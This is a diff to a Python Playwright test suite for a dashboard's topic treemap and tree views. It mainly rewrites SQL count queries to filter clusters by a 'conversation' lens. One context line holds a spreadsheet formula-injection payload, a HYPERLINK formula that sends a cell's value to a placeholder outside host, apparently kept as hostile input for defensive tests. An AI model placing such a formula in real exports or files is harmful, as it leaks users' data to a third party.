@@ -19,6 +19,7 @@ from tests.support import synthetic
 from tests.support.browser import HOSTILE, Watched, calm, go, settled
 
 HOSTILE_ID = "hostile"
+TREE = "(from dim_kura__clusters where lens = 'conversation')"
 FORMULA_ID, FORMULA = "calculating", '=HYPERLINK("https://outside.example/?"&A1,"more")'
 
 
@@ -154,11 +155,9 @@ def test_filters_change_numbers_to_what_sql_says(page: Page, ask: Callable[..., 
 def test_a_treemap_is_drilled_into_and_climbed_out_of_with_the_keyboard(page: Page, ask: Callable[..., Any]) -> None:
     go(page, "Topics")
     tiles = page.locator(".treemap button")
-    top = ask("select cluster_id from dim_kura__clusters where level = 0 and not is_leaf order by sort_order limit 1")
+    top = ask(f"select cluster_id from {TREE} where level = 0 and not is_leaf order by sort_order limit 1")
     name = ask(f"select name from dim_kura__clusters where cluster_id = '{top}'")
-    expect(tiles).to_have_count(
-        ask("select count(*) from dim_kura__clusters where level = 0 and conversation_count > 0")
-    )
+    expect(tiles).to_have_count(ask(f"select count(*) from {TREE} where level = 0 and conversation_count > 0"))
     tiles.filter(has_text=name).first.focus()
     page.keyboard.press("Enter")
     expect(tiles).to_have_count(
@@ -172,12 +171,12 @@ def test_a_treemap_is_drilled_into_and_climbed_out_of_with_the_keyboard(page: Pa
 def test_the_tree_opens_with_the_keyboard_and_leads_to_the_cluster(page: Page, ask: Callable[..., Any]) -> None:
     go(page, "Topics")
     rows = page.locator(".tree .row:not(.head):visible")
-    tops = ask("select count(*) from dim_kura__clusters where level = 0 and conversation_count > 0")
+    tops = ask(f"select count(*) from {TREE} where level = 0 and conversation_count > 0")
     expect(rows).to_have_count(tops)
     top = page.locator(".tree .row.top .name").first
     top.focus()
     page.keyboard.press("ArrowRight")
-    largest = "select {} from dim_kura__clusters where {} order by conversation_count desc, sort_order limit 1"
+    largest = f"select {{}} from {TREE} where {{}} order by conversation_count desc, sort_order limit 1"
     opened = ask(largest.format("cluster_id", "level = 0"))
     expect(rows).to_have_count(
         tops + ask(f"select count(*) from dim_kura__clusters where parent_cluster_id = '{opened}'")
